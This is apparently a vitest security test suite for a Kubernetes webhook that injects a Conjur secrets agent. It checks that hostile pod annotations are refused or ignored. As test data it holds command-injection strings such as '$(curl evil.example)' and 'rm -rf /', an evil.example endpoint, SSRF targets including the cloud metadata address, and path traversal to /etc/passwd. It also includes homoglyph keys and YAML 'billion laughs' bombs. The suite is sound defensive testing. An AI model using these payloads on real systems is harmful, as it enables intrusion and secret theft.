import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { settings } from '../../src/config/settings.ts'
import { pod, type Loose } from '../injector/pods.ts'
import { logLines } from '../support/agent-process.ts'
import { testCa, type TestCa } from '../support/certificate.ts'
import { review, reviewOf, sendReview, startInjector } from '../support/injector-process.ts'
import { applyPatch } from '../support/json-patch.ts'
import { temporaryDirectory } from '../support/temporary-directory.ts'

/*
 * P8 An author of pods who means ill, against the injector as a process. Whatever stands in the
 * annotations, the agent is started with what the administrator decided, or the pod is refused; and
 * the next pod of somebody else is answered.
 */

let directory: Awaited<ReturnType<typeof temporaryDirectory>>
let ca: TestCa
let injector: Awaited<ReturnType<typeof startInjector>>
let usual: Loose

beforeAll(async () => {
  directory = await temporaryDirectory()
  ca = await testCa()
  injector = await startInjector(directory.path, await ca.issue(), { more: ['--log-level=debug'] })
  usual = added(await injected(pod()))
})

afterAll(async () => {
  await injector.stop()
  await directory[Symbol.asyncDispose]()
})

async function answerTo(object: Loose): Promise<Loose> {
  return (await review(injector.port, ca.cert, object)).response
}

function patched(object: Loose, response: Loose): Loose {
  const patch = Buffer.from(response.patch ?? Buffer.from('[]').toString('base64'), 'base64')
  return applyPatch(object, JSON.parse(patch.toString('utf8')))
}

async function injected(object: Loose): Promise<Loose> {
  const response = await answerTo(object)
  expect(response.allowed).toBe(true)
  return patched(object, response)
}

/** What an injection brought: the agent's containers and every volume. */
function added({ spec }: Loose): Loose {
  const own = (spec.initContainers ?? []).filter(({ name }: Loose) => name.startsWith('conjur-'))
  return { containers: own, volumes: spec.volumes }
}

/** Every way to spell a setting as an annotation of ours. */
function spellings(name: string, env: string): readonly string[] {
  const kebab = name.replaceAll(/[A-Z]/g, (letter) => `-${letter.toLowerCase()}`)
  return [name, kebab, env, env.toLowerCase(), env.toLowerCase().replaceAll('_', '-')]
}

const evil: Readonly<Record<string, string>> = {
  applianceUrl: 'https://evil.example',
  authnUrl: 'https://evil.example/authn-jwt/prod',
  httpsProxy: 'http://evil.example:3128',
  identityCommand: '["/bin/cat","/etc/passwd"]',
}

describe('P8 no annotation changes a trust setting', () => {
  const trusted = Object.entries(settings)
    .filter(([, row]) => !('annotation' in row))
    .map(([name, row]) => ({ name, env: row.env, value: evil[name] ?? row.example }))
    .concat({ name: 'jwtTokenPath', env: 'JWT_TOKEN_PATH', value: '/conjur/secrets/planted' })

  test('those of the table are many', () => expect(trusted.length).toBeGreaterThan(30))

  test.each(trusted)('$name', async ({ name, env, value }) => {
    for (const spelling of spellings(name, env)) {
      const object = pod({ [spelling]: value })
      const response = await answerTo(object)
      const said = [response.status?.message, ...(response.warnings ?? [])].join('\n')

      expect(said).toContain(`conjur.org/${spelling}`)
      if (response.allowed === true) expect(added(patched(object, response))).toEqual(usual)
    }
  })

  test.each([
    ['container-image', 'evil.example/agent:1'],
    ['conjurConnConfig', 'evil-connect'],
    ['jwt-token-path', '/conjur/secrets/planted'],
  ])('%s is ignored aloud', async (name, value) => {
    const object = pod({ [name]: value })
    const response = await answerTo(object)

    expect(response.warnings).toEqual([
      `conjur.org/${name} is ignored: the administrator decides that`,
    ])
    expect(added(patched(object, response))).toEqual(usual)
  })

  test('an exec on a change would run beside the platform token, and is refused', async () => {
    const { allowed, status } = await answerTo(pod({ 'reload.db': 'exec ["/bin/cat","/x"]' }))

    expect(allowed).toBe(false)
    expect(status.message).toContain('conjur.org/reload.db: holds exec, which no annotation may')
  })

  test.each([
    'post http://evil.example/',
    'post http://169.254.169.254/latest/meta-data/',
    'post http://127.0.0.1.evil.example/',
    'post http://127.0.0.1@evil.example/',
    'post http://[::ffff:a9fe:a9fe]/',
    'post http://0.0.0.0/',
  ])('a reload does not leave the pod: %s', async (reload) => {
    const { allowed, status } = await answerTo(pod({ 'reload.db': reload }))

    expect(allowed).toBe(false)
    expect(status.message).toContain('needs an address on loopback')
  })
})

describe('P8 look-alikes of our names are no names of ours', () => {
  test.each([
    ['сonjur.org/appliance-url', 'a Cyrillic с'],
    ['conjur.оrg/inject', 'a Cyrillic о'],
    ['conjur․org/inject', 'a one-dot leader'],
    ['ｃｏｎｊｕｒ.org/inject', 'full-width letters'],
    ['Conjur.org/inject', 'a capital'],
    ['conjur.org\u200b/inject', 'a zero-width space'],
    ['xconjur.org/inject', 'a letter before it'],
  ])('%s (%s)', async (key) => {
    const object = pod()
    object.metadata.annotations[key] = 'false'
    const neighbour = await injected(object)

    expect(added(neighbour)).toEqual(usual)
    expect(neighbour.metadata.annotations[key]).toBe('false')
  })

  test.each([
    'conjur.org/injеct-type',
    'conjur.org/conjur-seсrets.db',
    'conjur.org/appliance‑url',
    'conjur.org/​conjur-secrets.db',
    'conjur.org/__proto__',
    'conjur.org/constructor',
    'conjur.org/toString.db',
  ])('%s is unknown, and said to be', async (key) => {
    const object = pod()
    // By definition, since `__proto__` would be no key otherwise.
    Object.defineProperty(object.metadata.annotations, key, {
      value: 'x',
      enumerable: true,
    })
    const { allowed, status } = await answerTo(object)

    expect(allowed).toBe(false)
    expect(status.message).toContain('unknown annotation')
  })

  test('of a key that stands twice the last counts, as for the API server', async () => {
    const body = reviewOf(pod()).replace(
      '"conjur.org/inject":"true"',
      '"conjur.org/inject":"true","conjur.org/inject":"false"',
    )
    const { response } = JSON.parse(await sendReview(injector.port, ca.cert, body))

    expect(response).toMatchObject({ allowed: true })
    expect(response.patch).toBeUndefined()
  })
})

describe('P8 a file stays in the volume', () => {
  test.each([
    ['../etc/passwd', 'has a part that begins with ..'],
    ['a/../../b', 'has a part that begins with ..'],
    ['..data', 'has a part that begins with ..'],
    ['..1/x', 'has a part that begins with ..'],
    ['/etc/passwd', 'is absolute'],
    ['//etc/passwd', 'is absolute'],
    ['./../x', 'has a part that begins with ..'],
    ['a/./b', 'has a part that is a single dot'],
    ['a\0b', 'holds a control character'],
    ['a\nb', 'holds a control character'],
    ['a\u202Enosj.b', 'holds a control character'],
    ['a\u2066b', 'holds a control character'],
    ['x'.repeat(256), 'has a part longer than 255 bytes'],
    ['é'.repeat(128), 'has a part longer than 255 bytes'],
    ['a/'.repeat(100_000) + 'b', 'is longer than 3072 bytes'],
  ])('%j', async (path, what) => {
    const { allowed, status } = await answerTo(pod({ 'secret-file-path.db': path }))

    expect(allowed).toBe(false)
    expect(status.message).toContain('conjur.org/secret-file-path.db: ')
    if (path.length < 200) expect(status.message).toContain(what)
  })

  test.each(['．．/x', '‥/x', '․․/x', 'a∕..∕b', '%2e%2e/x', '..%2fx'])(
    '%s is either a plain name or refused',
    async (path) => {
      const response = await answerTo(pod({ 'secret-file-path.db': path }))

      expect(response.allowed).toBe(!path.startsWith('..'))
    },
  )
})

describe('P8 names go nowhere but into names', () => {
  const hostile = [
    '$(CONJUR_ACCOUNT)',
    '$(curl evil.example)',
    '`id`',
    '"; rm -rf / #',
    "'; DROP TABLE x; --",
    '~1~0/metadata/-',
    '{{ .Values }}',
    '!!js/function "x"',
    '\u001B[2J\u001B]0;title\u0007',
    '\u202Egnp.exe',
    'a\r\nlevel: error\r\nb',
  ]
  test.each(hostile)('%j as login, file and group', async (text) => {
    const object = pod({
      'authn-identity': `host/${text}`,
      'secret-file-path.db': `${text}.yaml`,
      [`conjur-secrets.${text}`]: '- a/b',
    })
    object.metadata.name = text
    object.metadata.labels = { [text]: text }
    const from = injector.log().length
    const response = await answerTo(object)
    await injector.said(/"msg":"(?:injected|refused)/)

    const said = [response.status?.message, ...(response.warnings ?? [])].join('')
    expect(said).not.toMatch(/[\p{Cc}\p{Bidi_Control}]/u)
    const lines = injector.log().slice(from).trimEnd().split('\n')
    expect(logLines(lines.join('\n'))).toHaveLength(lines.filter((line) => line !== '').length)
    if (response.allowed !== true) return
    const result = patched(object, response)
    expect(result.metadata.labels[text]).toBe(text)
    expect(result.metadata.name).toBe(text)
    const [agent] = added(result).containers
    const login = agent.env.find(({ name }: Loose) => name === 'CONJUR_AUTHN_LOGIN')
    expect(login.value.replaceAll('$$(', '$(')).toBe(`host/${text}`.trim())
    expect(login.value).not.toMatch(/(?<!\$)\$\(/)
    expect(agent.args).toEqual(usual.containers[0].args)
  })

  test('a name of a container is a name', async () => {
    for (const name of ['$(x)', 'A', 'a/b', '-', 'x'.repeat(64), '../x', 'a\n', 'ä']) {
      const { allowed, status } = await answerTo(pod({ 'container-name': name }))
      if (allowed === true) expect(name.trim()).toMatch(/^[a-z0-9-]+$/)
      else expect(status.message).toContain('conjur.org/container-name')
    }
  })
})

/** What annotations may hold together; the API server refuses more. */
const FULL = 256 * 1024

describe('annotations of the greatest size are answered before the API server gives up', () => {
  const lines = (count: number, line: (index: number) => string): string =>
    Array.from({ length: count }, (_, index) => line(index)).join('\n')
  const cases: readonly (readonly [string, Readonly<Record<string, string>>])[] = [
    ['one list of thousands', { 'conjur-secrets.db': lines(30_000, (index) => `- a${index}`) }],
    ['the same entry thousands of times', { 'conjur-secrets.db': '- a\n'.repeat(FULL / 4) }],
    [
      'two groups with thousands of files each',
      {
        'conjur-secrets.a': lines(12_000, (index) => `- a${index}`),
        'conjur-secrets.b': lines(12_000, (index) => `- b${index}`),
        'secret-file-format.a': 'plain',
        'secret-file-format.b': 'plain',
      },
    ],
    [
      'thousands of groups',
      Object.fromEntries(
        Array.from({ length: 5000 }, (_, index) => [`conjur-secrets.g${index}`, '- a/b']),
      ),
    ],
    [
      'thousands of misspelt keys',
      Object.fromEntries(
        Array.from({ length: 5000 }, (_, index) => [`conjur-secretz.g${index}`, '- a/b']),
      ),
    ],
    ['brackets without end', { 'conjur-secrets.db': '['.repeat(FULL) }],
    ['lists in lists', { 'conjur-secrets.db': '- '.repeat(FULL / 2) }],
    ['maps in maps', { 'conjur-secrets.db': '{a: '.repeat(FULL / 4) }],
    ['anchors', { 'conjur-secrets.db': lines(15_000, (index) => `- &a${index} x${index}`) }],
    ['aliases', { 'conjur-secrets.db': `- &a x\n${'- *a\n'.repeat(40_000)}` }],
    [
      'a billion laughs',
      {
        'conjur-secrets.db': lines(
          30,
          (index) => `- &a${index} [${`*a${index - 1},`.repeat(index === 0 ? 0 : 10)}x]`,
        ),
      },
    ],
    ['blanks', { 'conjur-secrets.db': `-${'\t'.repeat(FULL)}x` }],
    ['escapes', { 'conjur-secrets.db': `- "${'\\'.repeat(FULL)}` }],
    ['a deep path', { 'secret-file-path.db': 'a/'.repeat(FULL / 2) }],
    ['a long list of containers', { 'conjur-inject-volumes': lines(30_000, (i) => `c${i}`) }],
    ['a long reload', { 'reload.db': 'signal HUP x\n'.repeat(20_000) }],
    ['a number', { 'agent-limits-cpu': '9'.repeat(FULL) }],
    ['an interval', { 'secrets-refresh-interval': '1h'.repeat(FULL / 2) }],
    [
      'a template',
      { 'secret-file-format.db': 'template', 'secret-file-template.db': '{{ '.repeat(FULL / 3) },
    ],
    ['a login', { 'authn-identity': `host/${'x/'.repeat(FULL / 2)}` }],
  ]
  test.each(cases)('%s', { timeout: 10_000 }, async (_name, annotations) => {
    const [bad, good] = await Promise.all([answerTo(pod(annotations)), answerTo(pod())])

    expect(typeof bad.allowed).toBe('boolean')
    if (bad.allowed === false) expect(bad.status.message.length).toBeLessThan(25_000)
    expect(good.allowed).toBe(true)
  })

  test('and an alias of YAML, which a list needs none of, is named', async () => {
    const { status } = await answerTo(pod({ 'conjur-secrets.db': '- &a x\n- *a' }))

    expect(status.message).toContain(
      'conjur.org/conjur-secrets.db: uses the YAML alias *a; write out what it stands for',
    )
  })
})

test('after all that nothing of it was a defect, and the injector ends as told', async () => {
  expect(injector.log()).not.toContain('INTERNAL')
  expect(logLines(injector.log()).filter(({ level }) => level === 'error')).toEqual([])
  expect((await injector.status('/readyz')).status).toBe(200)
})
